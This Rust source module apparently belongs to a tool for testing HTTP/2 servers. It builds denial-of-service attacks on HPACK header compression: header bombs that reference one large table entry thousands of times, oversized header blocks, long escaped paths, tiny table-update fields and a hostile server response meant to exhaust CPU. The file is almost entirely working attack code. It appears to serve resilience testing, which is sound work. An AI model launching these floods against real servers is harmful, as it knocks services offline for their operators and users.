//! CPU attacks by header compression: header blocks that refer to large fields with one byte each.

use std::sync::atomic::Ordering::Relaxed;

use super::{CHAT, MANY, MB};
use crate::attack::{Attack, Flood, Target};
use crate::options::REWRITES;
use crate::{Outcome, wire};

/// Size in bytes of the field that a header bomb refers to: the default table size is 4,096, with an overhead of 32 per
/// entry (RFC 7541, section 4.1).
const ENTRY: usize = 4_000;

/// References to that field in one header block.
const REFERENCES: usize = 16_000;

/// Size in bytes of a field that fills the largest table.
const LARGE_ENTRY: usize = 65_000;

/// Bytes of the largest header block that is decoded.
const LARGE_BLOCK: usize = 250_000;

/// Requests of one byte each that are sent with one write.
const REQUESTS_PER_WRITE: usize = 1_000;

/// A field with the newest entry's name and an empty value, which is added to the table.
const RENEWED: [u8; 2] = [0x40 | 62, 0];

/// Updates of the table size to 0 and 4,096, a field with an empty name and value that is added to the table, and one
/// that is not.
const TINY: [u8; 10] = [0x20, 0x3f, 0xe1, 0x1f, 0x40, 0, 0, 0, 0, 0];

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    for connections in [1, MANY] {
        let bytes = MB / connections;
        let block = LARGE_BLOCK / connections;
        all.push(Attack::flood("h2-header-bombs", connections, bombs(bytes)));
        all.push(Attack::flood(
            "h2-header-block",
            connections,
            blocks(bytes, entry(LARGE_ENTRY), &[wire::NEWEST], block),
        ));
    }
    all.push(Attack::flood("h2-long-paths", 1, long_paths()));
    let name = wire::added(&"x".repeat(LARGE_ENTRY), "");
    all.push(Attack::flood("h2-header-names", 1, blocks(MB, name, &RENEWED, LARGE_BLOCK)));
    all.push(Attack::flood("h2-header-fields", 1, blocks(MB, Vec::new(), &TINY, LARGE_BLOCK)));
    // In rewrite mode, the server's responses are HTTP/1.
    if !REWRITES.load(Relaxed) {
        all.push(Attack { costs: true, ..Attack::new("h2-response-headers", 1, response) });
    }
    all
}

/// A field of this many bytes that is added to the table.
fn entry(bytes: usize) -> Vec<u8> {
    wire::added("x", &"x".repeat(bytes))
}

/// Requests with many references to one field, in a table of the default size.
fn bombs(bytes: usize) -> Flood {
    let batch = |_, number| {
        let mut block = wire::block(0, &[(":path", CHAT)]);
        block.extend(entry(ENTRY));
        block.extend(vec![wire::NEWEST; REFERENCES - block.len()]);
        wire::frame(wire::HEADERS, wire::END_HEADERS | wire::END_STREAM, wire::stream(number), &block)
    };
    Flood { opening: wire::opening(&[]), opened: b"", batch: Box::new(batch), response: 0, bytes, refused: false }
}

/// A request with `first` in the largest table, then requests whose header blocks of `block` bytes repeat `field`.
fn blocks(bytes: usize, first: Vec<u8>, field: &'static [u8], block: usize) -> Flood {
    let opening = [wire::opening(&[]), wire::headers(0, &[&wire::LARGE_TABLE[..], &first].concat())].concat();
    let batch = move |_, number| wire::headers(number + 1, &field.repeat(block / field.len()));
    // In rewrite mode, pingora refuses such blocks.
    let refused = REWRITES.load(Relaxed);
    Flood { opening, opened: b"", batch: Box::new(batch), response: 0, bytes, refused }
}

/// Requests that repeat a long path of escapes with one byte each. Each write contains many requests: a write per
/// request would measure the kernel.
fn long_paths() -> Flood {
    let path = wire::added(":path", &"/%2e%2F".repeat(LARGE_ENTRY / 7));
    let requests = |_, number: usize| {
        let streams = number * REQUESTS_PER_WRITE + 1..=(number + 1) * REQUESTS_PER_WRITE;
        streams.flat_map(|stream| wire::headers(stream, &[wire::NEWEST])).collect()
    };
    Flood { batch: Box::new(requests), ..blocks(MB, path, &[wire::NEWEST], 1) }
}

/// The response headers of a server that attacks with the same blocks.
pub(crate) fn hostile_response(stream: u32) -> Vec<u8> {
    let first = [&wire::LARGE_TABLE[..], &[wire::STATUS_200], &entry(LARGE_ENTRY)].concat();
    let next = vec![wire::NEWEST; LARGE_BLOCK];
    let blocks = std::iter::once(&first).chain(std::iter::repeat_n(&next, MB / LARGE_BLOCK));
    blocks.flat_map(|block| wire::split_block(stream, block)).collect()
}

async fn response(target: Target) -> Outcome<()> {
    let mut stream = target.connect().await?;
    let mut block = wire::block(0, &[(":path", CHAT)]);
    block.extend(wire::literal("x-kind", "bomb"));
    stream.write(&[wire::opening(&[]), wire::headers(0, &block)].concat()).await?;
    stream.receive(hostile_response(1).len()).await?;
    stream.hold();
    Ok(())
}
